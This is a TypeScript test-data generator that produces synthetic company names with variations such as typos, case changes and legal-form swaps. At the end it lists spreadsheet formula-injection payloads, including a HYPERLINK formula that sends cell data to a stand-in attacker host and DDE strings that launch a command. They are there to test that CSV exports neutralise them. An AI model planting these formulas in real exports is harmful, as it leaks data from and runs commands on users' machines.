import type { Random } from './prng';
import {
  ABBREVIATIONS,
  ADJECTIVES,
  COINED_HEADS,
  COINED_TAILS,
  COLLECTIVES,
  LEGAL_FORM_ALTERNATIVES,
  NOUNS,
  TRADES,
  type CountryProfile,
} from './words';

/** A company name in two parts, so variants can add, drop or respell the legal form. */
export interface CompanyName {
  base: string;
  legalForm?: string;
}

/** How a name differs from the company's clean name. */
export type NameVariation =
  | 'case'
  | 'legal-form-added'
  | 'legal-form-removed'
  | 'legal-form-changed'
  | 'ampersand'
  | 'abbreviation'
  | 'typo'
  | 'punctuation'
  | 'spacing';

export const formatName = (name: CompanyName): string => (name.legalForm ? `${name.base} ${name.legalForm}` : name.base);

/** Lower-case ASCII letters and digits only: the key that makes two names "the same company". */
export function nameKey(text: string): string {
  return text
    .normalize('NFKD')
    .replace(/[\u0300-\u036f]/g, '')
    .toLowerCase()
    .replace(/[^a-z0-9]/g, '');
}

/** A realistic company name of `country`: a base from one of several patterns, usually a legal form. */
export function drawCompanyName(rng: Random, country: CountryProfile): CompanyName {
  const trade = (): string =>
    country.localTrades.length > 0 && rng.chance(0.25) ? rng.pick(country.localTrades) : rng.pick(TRADES);
  const surname = (): string => rng.pick(country.surnames);
  const base = rng.weighted<() => string>([
    [() => `${surname()} ${trade()}`, 3],
    [() => `${surname()} ${rng.chance(0.2) ? 'and' : '&'} ${surname()}${rng.chance(0.4) ? ` ${rng.pick(['Partners', 'Associates'])}` : ''}`, 2],
    [() => `${rng.pick(country.places)} ${trade()} ${rng.pick(COLLECTIVES)}`, 3],
    [() => `${rng.pick(COINED_HEADS)}${rng.pick(COINED_TAILS)} ${trade()}`, 3],
    [() => `${rng.pick(ADJECTIVES)} ${rng.pick(NOUNS)} ${trade()}`, 2],
    [() => `${surname()} ${rng.pick(COLLECTIVES)}`, 2],
    [() => `${initials(rng)} ${trade()}`, 1],
    [() => `${surname()} Brothers ${trade()}`, 0.5],
  ])();
  if (rng.chance(0.08)) return { base };
  const forms = country.legalForms;
  return { base, legalForm: rng.weighted(forms.map((f, i) => [f, forms.length - i] as const)) };
}

function initials(rng: Random): string {
  const letters = 'ABCDEFGHJKLMNPRSTVW';
  return Array.from({ length: rng.int(2, 3) }, () => rng.pick([...letters])).join('');
}

/** Applies one variation, or returns undefined when it does not apply to this name. */
export function applyVariation(rng: Random, name: CompanyName, kind: NameVariation, country: CountryProfile): CompanyName | undefined {
  const { base, legalForm } = name;
  switch (kind) {
    case 'case': {
      const upper = rng.chance(0.5);
      return { base: upper ? base.toUpperCase() : base.toLowerCase(), legalForm: upper ? legalForm?.toUpperCase() : legalForm?.toLowerCase() };
    }
    case 'legal-form-added':
      return legalForm ? undefined : { base, legalForm: country.legalForms[0] };
    case 'legal-form-removed':
      return legalForm ? { base } : undefined;
    case 'legal-form-changed': {
      const alternatives = legalForm ? LEGAL_FORM_ALTERNATIVES[legalForm] : undefined;
      return alternatives ? { base, legalForm: rng.pick(alternatives) } : undefined;
    }
    case 'ampersand':
      if (base.includes(' & ')) return { base: base.replace(' & ', ' and '), legalForm };
      if (base.includes(' and ')) return { base: base.replace(' and ', ' & '), legalForm };
      return undefined;
    case 'abbreviation':
      return abbreviate(rng, name);
    case 'typo': {
      const typed = typo(rng, base);
      return typed === undefined ? undefined : { base: typed, legalForm };
    }
    case 'punctuation':
      return legalForm ? { base: `${base},`, legalForm: rng.chance(0.5) ? legalForm : legalForm.replace(/\./g, '') } : undefined;
    case 'spacing': {
      const spaces = [...base.matchAll(/ /g)].map((m) => m.index);
      if (spaces.length === 0) return undefined;
      const at = rng.pick(spaces);
      return { base: `${base.slice(0, at)}  ${base.slice(at + 1)}`, legalForm };
    }
  }
}

function abbreviate(rng: Random, name: CompanyName): CompanyName | undefined {
  const known = ABBREVIATIONS.filter(([long]) => new RegExp(`\\b${long}\\b`).test(name.base));
  if (known.length > 0) {
    const [long, short] = rng.pick(known);
    return { base: name.base.replace(new RegExp(`\\b${long}\\b`), short), legalForm: name.legalForm };
  }
  const words = name.base.split(' ');
  if (words.length < 3 || !words.slice(0, 2).every((w) => /^\p{Lu}\p{Ll}+$/u.test(w))) return undefined;
  return { base: `${words[0][0]}${words[1][0]} ${words.slice(2).join(' ')}`, legalForm: name.legalForm };
}

const KEYBOARD_NEIGHBOURS: Record<string, string> = {
  a: 'sq', b: 'vn', c: 'xv', d: 'sf', e: 'wr', f: 'dg', g: 'fh', h: 'gj', i: 'uo', j: 'hk', k: 'jl', l: 'k',
  m: 'n', n: 'bm', o: 'ip', p: 'o', q: 'w', r: 'et', s: 'ad', t: 'ry', u: 'yi', v: 'cb', w: 'qe', x: 'zc',
  y: 'tu', z: 'x',
};

/** One small slip in a word of at least 4 letters: swap, drop, double or a neighbouring key. */
function typo(rng: Random, base: string): string | undefined {
  const words = base.split(' ');
  const candidates = words.map((w, i) => [w, i] as const).filter(([w]) => /^\p{L}{4,}$/u.test(w));
  if (candidates.length === 0) return undefined;
  const [word, index] = rng.pick(candidates);
  const at = rng.int(1, word.length - 2);
  const chars = [...word];
  const kind = rng.int(0, 3);
  if (kind === 0) [chars[at], chars[at + 1]] = [chars[at + 1], chars[at]];
  else if (kind === 1) chars.splice(at, 1);
  else if (kind === 2) chars.splice(at, 0, chars[at]);
  else {
    const neighbours = KEYBOARD_NEIGHBOURS[chars[at].toLowerCase()];
    if (!neighbours) chars.splice(at, 1);
    else chars[at] = rng.pick([...neighbours]);
  }
  const typed = chars.join('');
  if (typed === word) return undefined;
  words[index] = typed;
  return words.join(' ');
}

/**
 * Applies the first applicable of `kinds` (tried in a random order) up to `count` times; returns the
 * new name and the variations applied (possibly fewer than asked).
 */
export function vary(
  rng: Random,
  name: CompanyName,
  country: CountryProfile,
  kinds: readonly (readonly [NameVariation, number])[],
  count: number,
): { name: CompanyName; variations: NameVariation[] } {
  let current = name;
  const variations: NameVariation[] = [];
  for (let n = 0; n < count; n += 1) {
    // One legal-form change at most: "removed" then "added" would undo itself.
    const formTouched = variations.some((v) => v.startsWith('legal-form'));
    const remaining = kinds.filter(([k]) => !variations.includes(k) && !(formTouched && k.startsWith('legal-form')));
    for (let attempt = 0; attempt < 4 && remaining.length > 0; attempt += 1) {
      const kind = rng.weighted(remaining);
      const next = applyVariation(rng, current, kind, country);
      if (next) {
        current = next;
        variations.push(kind);
        break;
      }
    }
  }
  return { name: current, variations };
}

/** A ConnectWise-style identifier: letters and digits of the name, at most 25 characters. */
export function identifierFor(name: string): string {
  const words = name
    .normalize('NFKD')
    .replace(/[\u0300-\u036f]/g, '')
    .split(/[^A-Za-z0-9]+/)
    .filter((w) => w.length > 0);
  const joined = words.map((w) => w[0].toUpperCase() + w.slice(1)).join('');
  return (joined || 'Company').slice(0, 25);
}

/** A web domain for the company's e-mail addresses: its first two words, squashed, under the country's TLD. */
export function domainFor(base: string, country: CountryProfile): string {
  const words = base.split(' ').filter((w) => w !== '&' && w !== 'and');
  return `${nameKey(words.slice(0, 2).join('')).slice(0, 24) || 'company'}.${country.tld}`;
}

/** Names that a spreadsheet would take for formulas; a CSV export must neutralise them. */
export const HOSTILE_PAYLOADS: readonly string[] = [
  '=HYPERLINK("http://attacker.invalid/?x="&A1,"Open invoice")',
  "=cmd|' /C calc'!A0",
  '+SUM(1+1)*cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)',
];

/**
 * A name beginning with `=`, `+`, `-` or `@`: the name behind such a prefix, or (when `payloads`) half
 * the time a classic spreadsheet payload instead of the name.
 */
export function hostileName(rng: Random, name: string, payloads = false): string {
  return payloads && rng.chance(0.5) ? rng.pick(HOSTILE_PAYLOADS) : `${rng.pick(['=', '+', '-', '@'])}${name}`;
}
